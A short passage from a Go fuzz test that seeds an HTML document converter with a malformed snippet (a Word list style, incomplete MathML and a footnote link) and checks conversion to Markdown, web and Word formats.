	f.Add([]byte(`<p style="mso-list:l0 level9"><math display="block"><msup><mi>x</mi></msup></math><a href="#a">1</a></p><div class="footnotes" id="a"><h1>t</h1></div>`))
	f.Fuzz(func(t *testing.T, data []byte) {
		sound(t, convert.MD, data)
		sound(t, convert.Web, data)
		sound(t, convert.Words, data)
	})
}
